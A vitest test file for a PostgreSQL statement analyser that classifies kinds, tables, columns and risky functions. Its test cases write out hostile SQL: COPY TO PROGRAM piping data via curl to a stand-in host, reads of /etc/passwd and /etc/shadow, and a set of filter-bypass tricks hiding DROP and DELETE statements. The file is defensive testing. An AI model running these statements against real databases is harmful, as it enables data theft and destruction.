// PostgreSQL analysis, table-driven: kinds, tables, columns, WHERE/LIMIT, functions, locations, and bypass attempts.
import type { SqlParser } from '@sluice/core';
import { beforeAll, describe, expect, it } from 'vitest';
import { createSqlParser } from './index.js';
import { c, checkCase, type Case } from './testing/cases.js';

let parser: SqlParser;
beforeAll(async () => {
  parser = await createSqlParser('postgres');
});

const statements: Case[] = [
  c('select', 'SELECT id, email FROM public.users WHERE id = 1', {
    kind: 'select', kinds: ['select'], tables: ['read:public.users'], columns: ['read:public.users.id', 'read:public.users.email'], functions: [], hasLimit: false, hasWhere: null,
  }),
  c('insert with columns', 'INSERT INTO orders (id, total) VALUES (1, 2.5)', {
    kind: 'insert', kinds: ['insert'], tables: ['write:orders'], columns: ['write:orders.id', 'write:orders.total'], hasWhere: null,
  }),
  c('update with WHERE', 'UPDATE accounts SET balance = balance - 10 WHERE id = 7', {
    kind: 'update', tables: ['write:accounts'], columns: ['write:accounts.balance', 'read:accounts.id'], hasWhere: true,
  }),
  c('update without WHERE', 'UPDATE accounts SET flagged = true', { kind: 'update', hasWhere: false }),
  c('delete WHERE 1=1 does not restrict', 'DELETE FROM sessions WHERE 1 = 1', { kind: 'delete', tables: ['write:sessions'], hasWhere: false }),
  c('delete WHERE true does not restrict', 'DELETE FROM sessions WHERE true', { kind: 'delete', hasWhere: false }),
  c('delete WHERE CURRENT OF restricts', 'DELETE FROM sessions WHERE CURRENT OF c', { kind: 'delete', hasWhere: true }),
  c('delete USING', 'DELETE FROM orders o USING customers c WHERE o.customer_id = c.id AND c.banned', {
    kind: 'delete', tables: ['write:orders', 'read:customers'], columns: ['read:orders.customer_id', 'read:customers.banned'], hasWhere: true,
  }),
  c('update FROM with aliases', 'UPDATE "Users" u SET name = o.name FROM orders o WHERE u.id = o.user_id', {
    kind: 'update', tables: ['write:Users', 'read:orders'], columns: ['write:Users.name', 'read:orders.name', 'read:Users.id'], hasWhere: true,
  }),
  c('upsert', 'INSERT INTO inventory (sku, qty) VALUES ($1, $2) ON CONFLICT (sku) DO UPDATE SET qty = inventory.qty + excluded.qty', {
    kind: 'insert', tables: ['write:inventory'], columns: ['write:inventory.sku', 'write:inventory.qty', 'read:inventory.qty'],
  }),
  c('merge', 'MERGE INTO inventory i USING incoming n ON i.sku = n.sku WHEN MATCHED THEN UPDATE SET qty = n.qty WHEN NOT MATCHED THEN INSERT (sku, qty) VALUES (n.sku, n.qty) WHEN NOT MATCHED BY SOURCE THEN DELETE', {
    kind: 'merge', kinds: ['merge', 'update', 'insert', 'delete'], tables: ['write:inventory', 'read:incoming'], hasWhere: null,
  }),
  c('drop several', 'DROP TABLE a, s.b CASCADE', { kind: 'drop', kinds: ['drop'], tables: ['write:a', 'write:s.b'] }),
  c('truncate', 'TRUNCATE app.events, audit', { kind: 'truncate', tables: ['write:app.events', 'write:audit'] }),
  c('alter table', 'ALTER TABLE accounts ADD COLUMN last_seen timestamptz DEFAULT now()', { kind: 'alter', tables: ['write:accounts'] }),
  c('create table', 'CREATE TABLE reporting.daily (day date PRIMARY KEY, total numeric)', { kind: 'create', tables: ['write:reporting.daily'] }),
  c('create table as', 'CREATE TABLE snapshot AS SELECT * FROM orders', { kind: 'create', tables: ['write:snapshot', 'read:orders'] }),
  c('select into creates a table', 'SELECT * INTO backup_orders FROM orders', { kind: 'select', kinds: ['select', 'create'], tables: ['write:backup_orders', 'read:orders'] }),
  c('create view reads nothing now', 'CREATE VIEW v AS SELECT email FROM users', { kind: 'create', kinds: ['create'], tables: ['write:v', 'read:users'] }),
  c('create function body is stored, not run', "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DELETE FROM users $$", { kind: 'create', kinds: ['create'], tables: [], functions: [] }),
  c('grant', 'GRANT SELECT ON TABLE accounts, app.orders TO reporting', { kind: 'grant', tables: ['write:accounts', 'write:app.orders'] }),
  c('revoke', 'REVOKE ALL ON accounts FROM PUBLIC', { kind: 'revoke', tables: ['write:accounts'] }),
  c('grant role', 'GRANT admin TO bob', { kind: 'grant' }),
  c('copy from stdin', 'COPY orders (id, total) FROM STDIN', { kind: 'copy', tables: ['write:orders'], columns: ['write:orders.id'], functions: [] }),
  c('copy to stdout', 'COPY orders TO STDOUT WITH CSV', { kind: 'copy', tables: ['read:orders'], functions: [] }),
  c('copy from a server file', "COPY orders FROM '/tmp/orders.csv'", { kind: 'copy', tables: ['write:orders'], functions: ['copy file'] }),
  c('copy to a program', "COPY orders TO PROGRAM 'curl -d @- http://x'", { kind: 'copy', tables: ['read:orders'], functions: ['copy program'] }),
  c('copy of a data-modifying query', 'COPY (DELETE FROM t RETURNING *) TO STDOUT', { kind: 'copy', kinds: ['copy', 'delete'], tables: ['write:t'], hasWhere: false }),
  c('call', 'CALL app.refresh_rollups(now())', { kind: 'call', functions: ['app.refresh_rollups', 'now'] }),
  c('set', 'SET search_path TO app, public', { kind: 'set', kinds: ['set'] }),
  c('set role', 'SET ROLE admin', { kind: 'set' }),
  c('show', 'SHOW server_version', { kind: 'show' }),
  c('transaction', 'BEGIN; COMMIT; ROLLBACK TO SAVEPOINT a', [{ kind: 'transaction' }, { kind: 'transaction' }, { kind: 'transaction' }]),
  c('prepare reports what it prepares', 'PREPARE wipe AS DELETE FROM users', { kind: 'prepare', kinds: ['prepare', 'delete'], tables: ['write:users'], hasWhere: false }),
  c('execute', 'EXECUTE wipe', { kind: 'execute', kinds: ['execute'] }),
  c('listen', 'LISTEN events', { kind: 'other' }),
  c('vacuum', 'VACUUM orders', { kind: 'other', tables: ['read:orders'] }),
  c('load a library', "LOAD 'auto_explain'", { kind: 'other', functions: ['load library'] }),
  c('a C function loads a library', "CREATE FUNCTION sys(cstring) RETURNS int AS '/tmp/x.so', 'sys' LANGUAGE C STRICT", { kind: 'create', functions: ['load library'] }),
  c('DO block: block plus unknown plus what it runs', 'DO $$ BEGIN DELETE FROM audit WHERE at < now(); PERFORM pg_sleep(1); END $$', {
    kind: 'block', kinds: ['block', 'unknown', 'delete', 'select'], tables: ['write:audit'], functionsInclude: ['now', 'pg_sleep'], hasWhere: true,
  }),
  c('DO block with dynamic SQL', "DO $$ BEGIN EXECUTE 'DROP TABLE ' || 'x'; END $$", { kind: 'block', kinds: ['block', 'unknown'], tables: [] }),
  c('DO block in another language', "DO LANGUAGE plpython3u $$ import os $$", { kind: 'block', kinds: ['block', 'unknown'] }),
  c('functions lowercased and schema-qualified', "SELECT PG_READ_FILE('/etc/passwd'), lo_export(1, '/tmp/x'), pg_ls_dir('.'), public.dblink('host=x', 'select 1')", {
    kind: 'select', functions: ['pg_read_file', 'lo_export', 'pg_ls_dir', 'public.dblink'],
  }),
  c('functions in FROM', "SELECT * FROM pg_read_binary_file('/etc/shadow') AS f(data)", { kind: 'select', functions: ['pg_read_binary_file'], tables: [] }),
  c('CTE names are not tables', 'WITH recent AS (SELECT * FROM orders WHERE created_at > now()) SELECT * FROM recent r JOIN customers c ON c.id = r.customer_id', {
    kind: 'select', tables: ['read:orders', 'read:customers'],
  }),
  c('recursive CTE', 'WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 5) SELECT * FROM t', { kind: 'select', tables: [] }),
  c('LIMIT', 'SELECT * FROM t LIMIT 10', { kind: 'select', hasLimit: true }),
  c('LIMIT ALL is no limit', 'SELECT * FROM t LIMIT ALL', { kind: 'select', hasLimit: false }),
  c('FETCH FIRST', 'SELECT * FROM t ORDER BY id FETCH FIRST 5 ROWS ONLY', { kind: 'select', hasLimit: true }),
  c('union with limit', '(SELECT a FROM x) UNION (SELECT a FROM y) LIMIT 3', { kind: 'select', tables: ['read:x', 'read:y'], hasLimit: true }),
  c('locations of several statements', "SELECT 'é';\n  SELECT 2 ; -- done", [
    { kind: 'select', text: "SELECT 'é'" },
    { kind: 'select', text: 'SELECT 2' },
  ]),
  c('empty string', '', []),
  c('comment only', '-- nothing here', []),
  c('syntax error', 'SELEC 1', { error: /syntax error/ }),
  c('a syntax error does not echo the SQL', "ALTER ROLE app PASSWORD 'hunter2", { error: /^(?![\s\S]*hunter2)[\s\S]*unterminated/ }),
  c('a regex with backslashes reads one way', "SELECT * FROM t WHERE a ~ '\\d+'", { kind: 'select', kinds: ['select'] }),
];

const bypasses: Case[] = [
  c('comments around keywords', '/**/DROP/**/TABLE/**/x', { kind: 'drop', tables: ['write:x'], text: 'DROP/**/TABLE/**/x' }),
  c('line comment before the statement', '-- harmless\nDROP TABLE x', { kind: 'drop', tables: ['write:x'] }),
  c('nested comments hide nothing', 'SELECT 1 /* outer /* inner */ ; DROP TABLE x */', { kind: 'select', kinds: ['select'], tables: [] }),
  c('nested comments end where the server ends them', '/* a /* b */ c */ DROP TABLE x', { kind: 'drop', tables: ['write:x'] }),
  c('odd whitespace', 'DROP\fTABLE\r\n\tx', { kind: 'drop', tables: ['write:x'] }),
  c('mixed case and quoting', 'DrOp TaBlE "Users", USERS', { kind: 'drop', tables: ['write:Users', 'write:users'] }),
  c('several statements', 'SELECT 1; DELETE FROM t', [{ kind: 'select' }, { kind: 'delete', tables: ['write:t'], hasWhere: false }]),
  c('semicolon inside a string', "SELECT ';DROP TABLE x;'", { kind: 'select', kinds: ['select'] }),
  c('dollar quotes hold text', 'SELECT $$; DROP TABLE x; $$', { kind: 'select', kinds: ['select'], tables: [] }),
  c('tagged dollar quotes end at their tag', 'SELECT $a$ $$ $a$; DROP TABLE x', [{ kind: 'select' }, { kind: 'drop', tables: ['write:x'] }]),
  c('escape string', "SELECT E'\\'; DROP TABLE x; --'", { kind: 'select', kinds: ['select'], tables: [] }),
  c('DML in a CTE', 'WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d', { kind: 'select', kinds: ['select', 'delete'], tables: ['write:users'], hasWhere: false }),
  c('DML in a nested CTE', 'WITH a AS (WITH b AS (UPDATE t SET x = 1 RETURNING id) SELECT * FROM b) SELECT * FROM a', {
    kind: 'select', kinds: ['select', 'update'], tables: ['write:t'], hasWhere: false,
  }),
  c('EXPLAIN ANALYZE runs the statement', 'EXPLAIN ANALYZE DELETE FROM users', { kind: 'explain', kinds: ['explain', 'delete'], tables: ['write:users'], hasWhere: false }),
  c('EXPLAIN (ANALYZE) runs it too', 'EXPLAIN (ANALYZE, BUFFERS) UPDATE users SET admin = true WHERE id = 1', { kind: 'explain', kinds: ['explain', 'update'], tables: ['write:users'], hasWhere: true }),
  c('EXPLAIN (ANALYZE off) does not', 'EXPLAIN (ANALYZE off) DELETE FROM users', { kind: 'explain', kinds: ['explain'], tables: ['read:users'], hasWhere: null }),
  c('plain EXPLAIN does not', 'EXPLAIN DELETE FROM users', { kind: 'explain', kinds: ['explain'], tables: ['read:users'] }),
  c('file functions in a subquery', "SELECT (SELECT pg_read_file('/etc/passwd'))", { kind: 'select', functions: ['pg_read_file'] }),
  c('COPY TO PROGRAM', "COPY t TO PROGRAM 'x'", { kind: 'copy', functions: ['copy program'] }),
  c('COPY FROM PROGRAM', "COPY t FROM PROGRAM 'cat /etc/passwd'", { kind: 'copy', tables: ['write:t'], functions: ['copy program'] }),
  c('backslash read under standard_conforming_strings off', "SELECT '\\' || ' ; DROP TABLE t; -- '", {
    kind: 'select', kinds: ['select', 'drop', 'unknown'], tables: ['write:t'],
  }),
];

describe('postgres analysis', () => {
  it('names its dialect', () => {
    expect(parser.dialect).toBe('postgres');
  });
  it.each(statements.map((testCase) => [testCase.name, testCase] as const))('%s', (_name, testCase) => {
    checkCase(parser.parse(testCase.sql), testCase);
  });
});

describe('postgres bypass attempts', () => {
  it.each(bypasses.map((testCase) => [testCase.name, testCase] as const))('%s', (_name, testCase) => {
    checkCase(parser.parse(testCase.sql), testCase);
  });
});

describe('postgres settings', () => {
  const settings = (sql: string) => parser.parse(sql).statements.map((s) => (s.settings ?? []).map((x) => `${x.action}:${x.name}`));
  it.each([
    ['SET ROLE NONE', ['set:role']],
    ['SET LOCAL role TO analyst', ['set:role']],
    ['RESET ROLE', ['reset:role']],
    ['SET SESSION AUTHORIZATION DEFAULT', ['set:session_authorization']],
    ['RESET ALL', ['reset:all']],
    ['SET search_path = app, public', ['set:search_path']],
    ["SELECT set_config('Role', 'x', false)", ['set:role']],
    ["SELECT pg_catalog.set_config('role'::text, 'x', false)", ['set:role']],
    ["SELECT set_config($1, 'x', false)", ['set:*']],
    ["SELECT set_config(lower('ROLE'), 'x', false)", ['set:*']],
    ["CREATE FUNCTION f() RETURNS int LANGUAGE sql SET role = 'admin' AS 'select 1'", ['set:role']],
    ["DO $$ BEGIN PERFORM set_config('role', 'admin', false); END $$", ['set:role']],
    ['SELECT 1', []],
  ])('%s', (sql, expected) => {
    expect(settings(sql)[0]).toEqual(expected);
  });
});
